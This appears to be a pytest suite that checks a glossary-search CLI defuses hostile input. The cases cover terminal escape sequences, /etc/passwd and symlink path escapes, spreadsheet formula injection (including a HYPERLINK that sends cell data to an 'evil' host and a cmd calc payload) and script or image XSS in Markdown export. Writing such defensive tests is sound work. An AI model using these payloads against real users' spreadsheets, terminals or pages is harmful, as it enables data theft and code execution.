"""What the CLI prints is safe: hostile glossary text cannot drive the terminal, JSON is always UTF-8,
and `check` reads seed texts only inside the sources folder. Fake embedder: no model needed."""
from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from glossary_search import cli
from glossary_search.search import Searcher

from .conftest import FakeEmbedder

HOSTILE = r'''title: Hostile
entries:
  - term: "Evil\e]0;pwned\a Term"
    acronym: EVT
    definition: "Clears \e[2J the screen, rings \a a bell, \u202Ereversed\u202C text and a C1 \x9B31m CSI."
  - term: Average Handle Time
    acronym: AHT
    definition: Mean time an agent spends on one contact, talk plus hold plus wrap-up.
  - term: Handle Time
    definition: "Mean time an agent spends on one contact, talk plus hold plus wrap-up. \e[31mred"
'''
CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e", "\u202c")


@pytest.fixture
def hostile(tmp_path, monkeypatch):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "hostile.yaml").write_text(HOSTILE, encoding="utf-8")
    searcher = Searcher.open(corpus, tmp_path / "idx", embedder=FakeEmbedder())
    monkeypatch.setattr(cli, "open_searcher", lambda *a, **k: searcher)

    def invoke(*args):
        return CliRunner().invoke(cli.cli, list(args))

    invoke.corpus = corpus
    return invoke


@pytest.mark.parametrize("args", [["ask", "evil term clears the screen"], ["related", "EVT"],
                                  ["duplicates", "--band", "identical", "--band", "same", "--band", "related"],
                                  ["ask", "\x1b[2Jclear \u202ewhat"]])
def test_terminal_control_characters_from_the_corpus_never_reach_the_terminal(hostile, args):
    result = hostile(*args)
    assert result.exit_code == 0, result.output
    shown = result.stdout + result.stderr
    assert "Evil" in shown or "Handle Time" in shown
    assert not any(c in shown for c in CONTROLS), repr(shown)


def test_json_lines_escape_controls_and_stay_parseable(hostile):
    result = hostile("ask", "--json", "-k", "3", "evil term")
    raw = result.stdout_bytes
    assert not any(c.encode() in raw for c in CONTROLS) and b"\x1b" not in raw
    hit = next(h for h in json.loads(raw.decode("utf-8"))["results"] if h["acronym"] == "EVT")
    assert hit["term"] == "Evil\x1b]0;pwned\x07 Term" and "\x9b31m" in hit["definition"]  # the data is intact


def test_ask_json_is_valid_utf8_when_argv_was_not(hostile):
    # Python keeps argv bytes that are not UTF-8 as lone surrogates ("\udcff"): printed raw, they are not UTF-8.
    result = hostile("ask", "--json", "what is AHT \udcff\udcfe", "\ud800x")
    assert result.exit_code == 0, result.output
    lines = [json.loads(line) for line in result.stdout_bytes.decode("utf-8").splitlines()]  # strict UTF-8
    assert [d["question"] for d in lines] == ["what is AHT \ufffd\ufffd", "\ufffdx"]
    assert lines[0]["results"][0]["acronym"] == "AHT"


def test_check_refuses_a_source_outside_the_sources_folder(tmp_path):
    corpus = tmp_path / "corpus"
    (corpus / "sources").mkdir(parents=True)
    (corpus / "team.yaml").write_text("source: /etc/passwd\ntitle: T\nentries:\n  - term: A\n    definition: B\n")
    result = CliRunner().invoke(cli.cli, ["check", "--corpus", str(corpus)])
    assert result.exit_code == 1 and "root:" not in result.output
    assert "field 'source' must be a file name in corpus/sources/" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1

    (corpus / "team.yaml").write_text("source: seed.txt\ntitle: T\nentries:\n  - term: A\n    definition: B\n")
    (tmp_path / "secret.txt").write_text("root:x:0:0:root:/root:/bin/bash\n")
    (corpus / "sources" / "seed.txt").symlink_to(tmp_path / "secret.txt")
    result = CliRunner().invoke(cli.cli, ["check", "--corpus", str(corpus)])
    assert result.exit_code == 1 and "root:x" not in result.output
    assert "seed.txt: leads to" in result.stderr and "outside" in result.stderr


def test_check_refuses_a_sources_folder_linked_out_of_the_corpus(tmp_path):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (tmp_path / "etc").mkdir()
    (tmp_path / "etc" / "seed.txt").write_text("secret\n")
    (corpus / "sources").symlink_to(tmp_path / "etc")
    (corpus / "team.yaml").write_text("source: seed.txt\ntitle: T\nentries:\n  - term: A\n    definition: B\n")
    result = CliRunner().invoke(cli.cli, ["check", "--corpus", str(corpus)])
    assert result.exit_code == 1 and "secret" not in result.stdout
    assert "sources: leads to" in result.stderr


def test_check_names_a_seed_that_is_not_utf8(tmp_path):
    corpus = tmp_path / "corpus"
    (corpus / "sources").mkdir(parents=True)
    (corpus / "team.yaml").write_text("source: seed.txt\ntitle: T\nentries:\n  - term: A\n    definition: B\n    line: 2\n")
    (corpus / "sources" / "seed.txt").write_bytes(b"A\nCaf\xe9\n")
    result = CliRunner().invoke(cli.cli, ["check", "--corpus", str(corpus)])
    assert result.exit_code == 1
    assert result.stderr.startswith("glossary-search: error: ") and "seed.txt:2: not UTF-8 text" in result.stderr


def _groups(*definitions: str, term: str = "Callback"):
    from glossary_search.types import ConceptGroup, Entry

    entries = tuple(Entry(glossary=f"g{n}", position=1, term=term, definition=d) for n, d in enumerate(definitions))
    return [ConceptGroup(term, entries, 1.0, "identical", ())]


@pytest.mark.parametrize("payload", ["=HYPERLINK(\"http://evil/\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
                                     "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\uff1d1+1"])
def test_csv_export_defuses_formulas(payload):
    import csv
    import io

    from glossary_search.report import to_csv

    rows = list(csv.DictReader(io.StringIO(to_csv(_groups(payload, "safe text", term=payload)))))
    assert [r["definition"] for r in rows] == ["'" + payload, "safe text"]
    assert {r["term"] for r in rows} == {"'" + payload} and rows[0]["canonical"] == "'" + payload
    assert rows[0]["score"] == "1.000" and rows[0]["group"] == "1"  # our own numbers stay numbers


def test_markdown_export_escapes_html_links_images_and_urls():
    from glossary_search.report import to_markdown

    hostile = ('<script>alert(1)</script> <img src=x onerror=alert(1)> ![r](http://evil/x.png) '
               '[log in](http://evil/phish) http://evil.example/a www.evil.example <http://evil/> a | b *em*')
    text = to_markdown(_groups(hostile, "plain", term="<b>Term</b> [x](http://evil/t)"))
    for raw in ("<script", "<img", "<b>", "<http", "![", "](", "http://", "www.evil"):
        assert raw not in text, raw
    assert "&lt;script&gt;" in text and "a \\| b" in text and "\\*em\\*" in text
    rows = [line for line in text.splitlines() if line.startswith(("| g0 ", "| g1 "))]
    assert len(rows) == 2 and all(line.count(" | ") == 2 for line in rows)  # a "|" in the text adds no column
    # What was shown heads the report, as text too (the app passes its Show option, threshold and date).
    headed = to_markdown(_groups("plain", "plain"), "Same concept, threshold 0.52 <b>; 2026-11-24").splitlines()
    assert headed[:4] == ["# Near-duplicate terms", "", "Same concept, threshold 0\\.52 &lt;b&gt;; 2026\\-11\\-24", ""]
